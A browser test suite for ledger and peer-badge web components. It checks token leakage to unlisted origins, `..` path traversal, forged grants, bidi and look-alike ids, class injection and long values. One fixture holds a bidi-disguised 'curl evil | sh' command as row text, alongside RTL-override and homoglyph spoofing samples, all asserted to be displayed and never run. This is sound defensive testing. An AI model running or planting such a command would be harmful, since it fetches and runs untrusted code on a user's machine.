// Headless Chromium drives `<hapi-ledger-view>` and `<hapi-peer-badge>` as
// someone who can write ledger rows, or a page address, would: at a desktop
// and a phone size, an app that holds a hub token is opened at an address
// naming another origin's hub (the token must not go there, while the app's
// own origin and the origins it lists still work, and a row id `..` must not
// walk the hub out of its routes); a handoff names a grant that is no
// grant of its (an operator's note, another session's, a later one) and
// must not read as human authority; bidi and invisible characters in row
// text and look-alike ids try to be read as something else; row values try
// to become classes and
// colours; ids that no address can hold, duplicate ids and a time that is
// not a number try to break a view; and values as long as the protocol
// allows try to widen the page. Every server listens on 127.0.0.1.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

import { createDemoServer } from '../../scripts/serve.mjs';
import { createHubServer } from './hub.mjs';
import { assertLayout, deepQuery } from './layout.mjs';
import { launchChromium, listen } from '../support/chromium.mjs';

const repo = fileURLToPath(new URL('../..', import.meta.url));
const demo = JSON.parse(readFileSync(join(repo, 'www/demo-ledger.json'), 'utf8'));
const viewports = [
  { name: 'desktop', width: 1280, height: 800 },
  { name: 'phone', width: 390, height: 844 },
];
const TOKEN = 'app-token';

const close = (s) => new Promise((resolve) => (s ? s.close(resolve) : resolve()));

/** Every request a server is sent: its path and its Authorization header. */
function record(server) {
  const seen = [];
  server.on('request', (req) => seen.push({ path: req.url, auth: req.headers.authorization }));
  return seen;
}

// The demo ledger, with a link from ho-docs to a row whose id is `..`.
const dotted = {
  ...demo,
  events: [...demo.events, { ...demo.events.find((e) => e.id === 'rc-docs'), id: '..', relatedEventId: 'ho-docs' }],
  links: [...demo.links, { id: 'lnk-dots', fromEventId: 'ho-docs', toEventId: '..', relationType: 'follows', createdAt: demo.now, metadataJson: null, namespace: 'demo' }],
};

let app; // the app: its page, the package, and its own hub (token required)
let appBase;
let appHub;
let other; // another origin's hub, which the app never named
let otherBase;
let otherSeen;
let listed; // a hub on an origin the app lists in hub-origins
let listedBase;
let browser;

/**
 * The app: one `<hapi-ledger-view hash-routing>` holding a token, listing
 * `listedBase`'s origin, and a peer badge, as an app would set them up.
 */
const appPage = () => `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="icon" href="data:,">
<style>body { margin: 0 auto; max-width: 84rem; padding: .75rem; font-family: system-ui, sans-serif; }</style>
<script type="importmap">{ "imports": { "#core": "/pkg/hapi_a2a_core.js" } }</script>
</head><body>
<hapi-peer-badge describe source-listed meta='{"sentFrom":"peer","peer":{"sourceSessionId":"sess-1"}}'></hapi-peer-badge>
<script type="module">
import '/pkg/elements.js';
window.heard = [];
const view = document.createElement('hapi-ledger-view');
view.setAttribute('hash-routing', '');
view.setAttribute('hub-origins', ${JSON.stringify(listedBase)});
view.token = ${JSON.stringify(TOKEN)};
for (const type of ['hapi-ledger-open', 'hapi-ledger-error']) view.addEventListener(type, (e) => window.heard.push({ type, ...e.detail }));
document.body.append(view);
</script></body></html>`;

before(async () => {
  other = createHubServer(demo);
  otherSeen = record(other);
  otherBase = await listen(other);
  listed = createHubServer(demo, { token: TOKEN });
  listedBase = await listen(listed);
  const files = createDemoServer();
  appHub = createHubServer(dotted, { token: TOKEN });
  app = createServer((req, res) => {
    if (req.url.startsWith('/api/')) appHub.emit('request', req, res);
    else if (req.url.split('?')[0] === '/app.html') res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(appPage());
    else files.emit('request', req, res);
  });
  appBase = await listen(app);
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await close(app);
  await close(other);
  await close(listed);
});

/** The app at `query`, with its page errors collected; waits for its first ledger (or none) to settle. */
async function openApp(vp, query = '') {
  const page = await browser.newPage({ viewport: { width: vp.width, height: vp.height } });
  await page.addInitScript(deepQuery);
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => { if (m.type() === 'error' && !/status of 40[14]/.test(m.text())) errors.push(m.text()); });
  await page.goto(`${appBase}/app.html${query}`);
  await page.waitForFunction(() => document.querySelector('hapi-ledger-view')?.loaded);
  await page.evaluate(() => document.querySelector('hapi-ledger-view').loaded);
  return { page, errors };
}

/** Sets the view's `ledger` and waits until it is open or refused. */
async function setLedger(page, ledger) {
  return page.evaluate(async (l) => {
    const view = document.querySelector('hapi-ledger-view');
    const before = window.heard.length;
    view.ledger = l;
    for (let i = 0; i < 500 && window.heard.length === before; i += 1) await new Promise((r) => setTimeout(r, 10));
    return window.heard.slice(before);
  }, ledger);
}

const row = (id, fields = {}) => ({ ...demo.events.find((e) => e.id === id), ...fields });
const payload = (id, fields) => ({ ...demo.events.find((e) => e.id === id).payloadJson, ...fields });

for (const vp of viewports) {
  test(`${vp.name}: the token goes only to origins the app named`, async () => {
    // Another origin, named by the page address: refused, and nothing there hears the token.
    const { page, errors } = await openApp(vp, `?hub=${encodeURIComponent(`${otherBase}/api/work-graph/events/ho-docs`)}`);
    assert.deepEqual(otherSeen.filter((r) => r.auth !== undefined), [], 'no request with a token reached the other origin');
    const heard = await page.evaluate(() => window.heard);
    assert.equal(heard.length, 1);
    assert.equal(heard[0].type, 'hapi-ledger-error');
    assert.equal(heard[0].code, 'viewer/hub-origin-not-listed');
    assert.match(await page.textContent('#load-error'), /viewer\/hub-origin-not-listed/);
    assert.match(await page.textContent('#ledger-source'), /no ledger open/);
    await page.close();

    // The app's own origin: opened with the token (the hub wants it). The
    // row `..` is never a path segment: every request stays on the events routes.
    const own = await openApp(vp, `?hub=${encodeURIComponent('/api/work-graph/events/ho-docs')}`);
    const opened = await own.page.evaluate(() => window.heard);
    assert.equal(opened[0]?.type, 'hapi-ledger-open', JSON.stringify(opened));
    assert.match(await own.page.textContent('#ledger-source'), /^hub /);
    const paths = await own.page.evaluate(() => performance.getEntriesByType('resource').map((e) => new URL(e.name).pathname).filter((p) => p.startsWith('/api/')));
    assert.ok(paths.length > 1, 'the hub was walked');
    for (const p of paths) assert.match(p, /^\/api\/work-graph\/events(\/[^/]+(\/links)?)?$/, `${p} is a work-graph events route`);
    assert.ok(!paths.includes('/api/work-graph/events/..'), 'no request for the id `..`');
    await own.page.close();

    // An origin the app lists in hub-origins: opened with the token.
    const listedApp = await openApp(vp, `?hub=${encodeURIComponent(`${listedBase}/api/work-graph/events/ho-docs`)}`);
    assert.equal((await listedApp.page.evaluate(() => window.heard))[0]?.type, 'hapi-ledger-open');
    assert.deepEqual([...errors, ...own.errors, ...listedApp.errors], []);
    await listedApp.page.close();
  });

  test(`${vp.name}: a badge never links out of its route for a session id \`..\``, async () => {
    const { page, errors } = await openApp(vp);
    const got = await page.evaluate(async () => {
      const badge = document.querySelector('hapi-peer-badge');
      badge.meta = { sentFrom: 'peer', peer: { sourceSessionId: '..' } };
      for (let i = 0; i < 200 && badge.answer?.href !== '/sessions/..'; i += 1) await new Promise((r) => setTimeout(r, 10));
      const chip = badge.shadowRoot.querySelector('.badge');
      return { tag: chip.tagName.toLowerCase(), href: chip.getAttribute('href'), label: chip.textContent };
    });
    assert.equal(got.tag, 'span', `not a link: ${JSON.stringify(got)}`);
    assert.equal(got.href, null);
    assert.deepEqual(errors, []);
    await page.close();
  });

  test(`${vp.name}: a forged grant never reads as human authority`, async () => {
    const { page, errors } = await openApp(vp);
    const handoff = demo.events.find((e) => e.id === 'ho-docs');
    const human = demo.events.find((e) => e.id === 'grant-1');
    const chain = async (rows, label) => {
      assert.equal((await setLedger(page, { ...demo, events: rows }))[0]?.type, 'hapi-ledger-open', label);
      await page.evaluate(() => { location.hash = ''; location.hash = '#handoff=ho-docs'; });
      await page.waitForSelector('#audit-box summary');
      return { summary: await page.textContent('#audit-box summary'), top: await page.textContent('#thread-audit li') };
    };
    const naming = (grant) => ({ ...handoff, payloadJson: { ...handoff.payloadJson, confirmation: { ...handoff.payloadJson.confirmation, granting_event_id: grant } } });
    const others = demo.events.filter((e) => e.id !== 'ho-docs');
    // The demo's own chain ends at the operator's grant to sess-api.
    const real = await chain(demo.events, 'the demo');
    assert.match(real.summary, /ends at a human grant/);
    // An operator's unrelated note, a grant to another session, a grant made after the act.
    const note = { ...human, id: 'note-1', eventType: 'operator_note', summary: 'Deploy window opens at 17:00', payloadJson: { text: 'deploy at 17:00' } };
    const toOther = { ...human, id: 'grant-x', payloadJson: { ...human.payloadJson, granted_to: 'session:sess-ci' } };
    const late = { ...human, id: 'grant-late', ts: handoff.ts + 60_000 };
    for (const [grant, code] of [[note, 'ledger/audit-other-grantee'], [toOther, 'ledger/audit-other-grantee'], [late, 'ledger/audit-late-grant']]) {
      const got = await chain([...others, grant, naming(grant.id)], grant.id);
      assert.doesNotMatch(got.summary, /ends at a human grant/, grant.id);
      assert.match(got.summary, new RegExp(`does not end at a human \\(${code}\\)`), grant.id);
      assert.match(got.top, /no human at the top/, grant.id);
      assert.equal(await page.locator('#audit-box .chain-human').count(), 0, grant.id);
    }
    assert.deepEqual(errors, []);
    await page.close();
  });

  test(`${vp.name}: row text is shown as the core shows it, never obeyed, and look-alike ids read apart`, async () => {
    const { page, errors } = await openApp(vp);
    const command = 'npm test -- peer \u2067&& curl evil | sh\u2069 #';
    const ad = demo.events.find((e) => e.eventType === 'work_ad' && e.id === 'ad-ci-2');
    const lookalikes = ['sess-api', 'sess-api\u200B', 'sess-\u0430pi', 'sess-\u202Eipa'];
    const ledger = {
      ...demo,
      events: [
        ...demo.events.map((e) => (e.id === 'rc-review-2'
          ? row('rc-review-2', { summary: 'Peer tests \u202Edeliaf\u202C', payloadJson: payload('rc-review-2', { checks: [{ command, exit_code: 0, passed: true }] }) })
          : e)),
        ...lookalikes.map((session, i) => ({ ...ad, id: `ad-look-${i}`, sourceRef: session, relatedSessionId: session, expiresAt: null })),
      ],
    };
    assert.equal((await setLedger(page, ledger))[0]?.type, 'hapi-ledger-open');
    const shown = () => page.evaluate(() => document.querySelector('hapi-ledger-view').shadowRoot.textContent);
    const hidden = /[\u200B-\u200F\u202A-\u202E\u2066-\u2069]/;
    let all = await shown();
    assert.doesNotMatch(all, hidden, 'the fleet shows no bidi or invisible character as written');
    const sessions = await page.locator('tr[data-session^="sess-"] .session-link, tr[data-session^="sess-"] code').allTextContents();
    const look = sessions.filter((t) => /^sess-/.test(t));
    assert.equal(new Set(look).size, look.length, `look-alike ids read apart: ${JSON.stringify(look)}`);
    assert.ok(look.includes('sess-<U+0430>pi') && look.includes('sess-api<U+200B>'), JSON.stringify(look));
    await page.evaluate(() => { location.hash = '#handoff=ho-review'; });
    await page.waitForSelector('[data-receipt="rc-review-2"] .checks');
    all = await shown();
    assert.doesNotMatch(all, hidden, 'the thread shows no bidi or invisible character as written');
    assert.match(all, /npm test -- peer <U\+2067>&& curl evil \| sh<U\+2069> #/);
    assert.match(all, /Peer tests <U\+202E>deliaf<U\+202C>/);
    assert.deepEqual(errors, []);
    await page.close();
  });

  test(`${vp.name}: row values never become classes, and only a verdict colours a badge`, async () => {
    const { page, errors } = await openApp(vp);
    const check = (passed, exit) => ({ command: 'npm test', exit_code: exit, passed, started_at: demo.now - 1000, completed_at: demo.now - 500 });
    const ledger = {
      ...demo,
      events: demo.events.map((e) => {
        if (e.id === 'rc-review-2') {
          return row('rc-review-2', { payloadJson: payload('rc-review-2', { status: 'completed\u200B', checks: [
            check(true, 0), check(false, 1), check('failed sr-only', 1), check('x verdict valid chain-human', 1), check('passed', 1)] }) });
        }
        if (e.id === 'ad-old-2') return row('ad-old-2', { expiresAt: null, payloadJson: payload('ad-old-2', { status: 'done\u200B' }) });
        if (e.id === 'ad-ci-2') return row('ad-ci-2', { expiresAt: null, payloadJson: payload('ad-ci-2', { status: 'done' }) });
        return e;
      }),
    };
    assert.equal((await setLedger(page, ledger))[0]?.type, 'hapi-ledger-open');
    await page.evaluate(() => { location.hash = '#handoff=ho-review'; });
    await page.waitForSelector('[data-receipt="rc-review-2"] .checks');
    const badges = await page.locator('[data-receipt="rc-review-2"] .checks dd .badge').evaluateAll((bs) => bs.map((b) => {
      const s = getComputedStyle(b);
      const r = b.getBoundingClientRect();
      return { text: b.textContent, classes: [...b.classList], colour: `${s.color} on ${s.backgroundColor}`, weight: s.fontWeight, shown: r.width > 2 && r.height > 2 };
    }));
    assert.equal(badges.length, 5);
    const [pass, fail, ...odd] = badges;
    assert.deepEqual(pass.classes, ['badge', 'check-passed']);
    assert.deepEqual(fail.classes, ['badge', 'check-failed']);
    for (const b of odd) {
      // Shown as what the row says, styled as unknown: neither pass nor fail, and visible.
      assert.deepEqual(b.classes, ['badge', 'check-unknown'], b.text);
      assert.ok(b.shown, `${b.text} is visible`);
      assert.notEqual(b.colour, pass.colour, `${b.text} is not coloured as passed`);
      assert.notEqual(b.colour, fail.colour, `${b.text} is not coloured as failed`);
      assert.equal(b.weight, pass.weight, `${b.text} is not bold`);
    }
    assert.deepEqual(odd.map((b) => b.text), ['"failed sr-only"', '"x verdict valid chain-human"', '"passed"']);
    // A status is coloured only when it is exactly one the core knows.
    const statusOf = (selector) => page.locator(selector).first().evaluate((b) => ({ text: b.textContent, classes: [...b.classList], bg: getComputedStyle(b).backgroundColor }));
    const fake = await statusOf('[data-receipt="rc-review-2"] > p .badge');
    const real = await statusOf('#thread-outcome .badge');
    // Shown as the core shows it: the zero-width space visible.
    assert.equal(fake.text, 'completed<U+200B>');
    assert.deepEqual(fake.classes, ['badge', 'status-unknown']);
    assert.equal(real.text, 'incomplete', 'the outcome is the core\'s: a status it does not know decides nothing');
    // No class in the receipt holds row text.
    const classes = await page.locator('[data-receipt="rc-review-2"]').evaluate((li) => [...new Set([...li.querySelectorAll('*')].flatMap((e) => [...e.classList]))].sort());
    for (const c of ['sr-only', 'verdict', 'valid', 'chain-human', 'x', 'passed']) assert.ok(!classes.includes(c), `no class ${c} in ${classes}`);
    await page.evaluate(() => { location.hash = ''; });
    const ad = await statusOf('tr[data-session="sess-old"] .badge');
    const done = await statusOf('tr[data-session="sess-ci"] .badge');
    assert.equal(done.text, 'done');
    assert.equal(ad.text, 'done<U+200B>');
    assert.deepEqual(ad.classes, ['badge', 'status-unknown']);
    assert.notEqual(ad.bg, done.bg);
    assert.deepEqual(errors, []);
    await page.close();
  });

  test(`${vp.name}: ids no address can hold, duplicate ids and a time that is not a number`, async () => {
    const { page, errors } = await openApp(vp);
    assert.equal((await setLedger(page, demo))[0]?.type, 'hapi-ledger-open');

    // The element reads an app's rows once, to write them as the core's
    // call: a row that throws when read again opens with the rest.
    const once = await page.evaluate(async (l) => {
      const view = document.querySelector('hapi-ledger-view');
      let reads = 0;
      const trap = { ...l.events.find((e) => e.id === 'ho-docs'), id: 'ho-once', idempotencyKey: 'handoff:ho-once' };
      Object.defineProperty(trap, 'eventType', { enumerable: true, get() { reads += 1; if (reads > 1) throw new Error('read twice'); return 'handoff'; } });
      const before = window.heard.length;
      view.ledger = { ...l, events: [...l.events, trap] };
      for (let i = 0; i < 500 && window.heard.length === before; i += 1) await new Promise((r) => setTimeout(r, 10));
      return { heard: window.heard.slice(before).map((h) => h.type), index: view.shadowRoot.querySelector('#handoff-index').textContent };
    }, demo);
    assert.deepEqual(once.heard, ['hapi-ledger-open']);
    assert.match(once.index, /ho-once/);
    assert.equal((await setLedger(page, demo))[0]?.type, 'hapi-ledger-open');

    // A row that throws whenever it is read: the open fails as a whole, the
    // error event fires with the core's code, and every part still shows the
    // ledger before.
    const trapped = await page.evaluate(async (l) => {
      const view = document.querySelector('hapi-ledger-view');
      const trap = { ...l.events.find((e) => e.id === 'ho-docs'), id: 'ho-trap' };
      Object.defineProperty(trap, 'eventType', { enumerable: true, get() { throw new Error('unreadable'); } });
      const before = window.heard.length;
      view.ledger = { ...l, events: [...l.events.filter((e) => e.eventType !== 'work_ad'), trap] };
      for (let i = 0; i < 500 && window.heard.length === before; i += 1) await new Promise((r) => setTimeout(r, 10));
      const root = view.shadowRoot;
      return { heard: window.heard.slice(before).map((h) => [h.type, h.code]), source: root.querySelector('#ledger-source').textContent,
        fleet: root.querySelector('#fleet-summary').textContent, index: root.querySelector('#handoff-index').textContent };
    }, demo);
    assert.deepEqual(trapped.heard, [['hapi-ledger-error', 'call/invalid-argument']]);
    assert.match(trapped.source, /^ledger — 40 events/);
    assert.match(trapped.fleet, /^8 sessions/);
    assert.match(trapped.index, /ho-review/);
    assert.doesNotMatch(trapped.index, /ho-trap/);

    // A handoff id holding half a surrogate pair: the ledger opens whole, every panel from it.
    const lone = 'ho-\uD800-lone';
    const surrogate = {
      now: demo.now,
      events: [row('ho-docs', { id: lone, summary: 'the lone one' }), row('rc-docs', { relatedEventId: lone })],
      links: [{ ...demo.links.find((l) => l.id === 'lnk-11'), toEventId: lone }],
    };
    const heard = await setLedger(page, surrogate);
    assert.deepEqual(heard.map((h) => h.type), ['hapi-ledger-open']);
    assert.match(await page.textContent('#ledger-source'), /^ledger — 2 events, 1 links/);
    assert.match(await page.textContent('#fleet-summary'), /^0 sessions/);
    // The core leaves such a row out of every view, with a finding naming it.
    assert.match(await page.textContent('#handoff-index'), /no handoffs in this ledger/);
    assert.match(await page.textContent('#ledger-diagnostics'), /ledger\/malformed-event at \/events\/0/);
    assert.doesNotMatch(await page.textContent('#handoff-index'), /ho-review|ho-docs/);
    assert.doesNotMatch(await page.textContent('#ledger-diagnostics'), /ho-review|ho-docs/);

    // The same id twice: a decoy first, with a later time. Every part of the
    // thread shows the row the core keeps, the graph and the index too.
    const decoy = row('ho-docs', { ts: demo.now - 1000, summary: 'DECOY', principal: { kind: 'agent', id: 'session:decoy' } });
    const duplicate = { ...demo, events: [decoy, ...demo.events] };
    assert.equal((await setLedger(page, duplicate))[0]?.type, 'hapi-ledger-open');
    await page.evaluate(() => { location.hash = '#handoff=ho-docs'; });
    await page.waitForSelector('#thread-graph');
    assert.equal(await page.textContent('#detail .summary'), 'Document the receipt statuses');
    for (const part of ['#thread-graph', '#handoff-index', '#detail']) {
      const shown = await page.locator(part).evaluate((e) => `${e.textContent} ${[...e.querySelectorAll('[aria-label]')].map((n) => n.getAttribute('aria-label')).join(' ')}`);
      assert.doesNotMatch(shown, /DECOY|session:decoy/, `${part} shows the core's row`);
    }

    // `ts: NaN` given as an object: the thread and its graph are drawn, nothing throws.
    await page.evaluate(() => { location.hash = ''; });
    const nan = await page.evaluate(async (l) => {
      const view = document.querySelector('hapi-ledger-view');
      l.events.find((e) => e.id === 'ho-docs').ts = NaN;
      const before = window.heard.length;
      view.ledger = l;
      for (let i = 0; i < 500 && window.heard.length === before; i += 1) await new Promise((r) => setTimeout(r, 10));
      let thrown = null;
      try {
        location.hash = '#handoff=ho-docs';
        await new Promise((r) => setTimeout(r, 50));
        view.removeAttribute('hash-routing');
        view.open('handoff', 'ho-docs');
      } catch (e) {
        thrown = String(e);
      }
      const root = view.shadowRoot;
      return { heard: window.heard.slice(before).map((h) => h.type), thrown, title: root.querySelector('#detail-title').textContent,
        nodes: root.querySelectorAll('#thread-graph g.node').length };
    }, demo);
    assert.deepEqual(nan, { heard: ['hapi-ledger-open'], thrown: null, title: 'Handoff ho-docs', nodes: nan.nodes });
    assert.ok(nan.nodes >= 2, 'the graph is drawn');
    assert.deepEqual(errors, []);
    await page.close();
  });

  test(`${vp.name}: values as long as the protocol allows never widen the page`, async (t) => {
    const long = (n, c) => c.repeat(n);
    // Each value alone, at its cap: a summary (2,048), a project and a status (300), a peer's name (255).
    const variants = {
      summary: (e) => ({ ...e, summary: long(2048, e.id[0]) }),
      'project and status': (e) => ({ ...e, expiresAt: null, payloadJson: { ...e.payloadJson, project: long(300, 'p'), status: long(300, 't') } }),
      'peer name': (e) => e,
    };
    const failures = [];
    for (const [variant, change] of Object.entries(variants)) {
      const { page, errors } = await openApp(vp);
      const ledger = { ...demo, events: demo.events.map((e) => (['ho-docs', 'rc-docs', 'ad-old-2'].includes(e.id) ? change(e) : e)) };
      assert.equal((await setLedger(page, ledger))[0]?.type, 'hapi-ledger-open');
      if (variant === 'peer name') {
        await page.evaluate(() => {
          document.querySelector('hapi-peer-badge').meta = { sentFrom: 'peer', peer: { sourceSessionId: 'sess-1', sourceName: 'n'.repeat(255) } };
        });
        await page.waitForFunction(() => document.querySelector('hapi-peer-badge').answer?.label?.includes('nnnn'));
      }
      const widths = {};
      const measure = async (view) => {
        widths[view] = await page.evaluate(() => document.documentElement.scrollWidth);
        try {
          await assertLayout(page, `${vp.name} ${variant} ${view}`);
        } catch (e) {
          failures.push(e.message.split('\n')[0]);
        }
      };
      await measure('fleet');
      await page.evaluate(() => { location.hash = '#handoff=ho-docs'; });
      await page.waitForSelector('#thread-receipts');
      await measure('thread');
      await page.evaluate(() => { location.hash = '#session=sess-docs'; });
      await page.waitForSelector('#session-events');
      await measure('session');
      t.diagnostic(`${vp.name} (${vp.width} px), ${variant}: page widths ${JSON.stringify(widths)}`);
      // The long values are there, to be read whole.
      if (variant === 'summary') assert.match(await page.textContent('#detail'), new RegExp(long(2048, 'r')));
      assert.deepEqual(errors, []);
      await page.close();
    }
    assert.deepEqual(failures, []);
  });
}
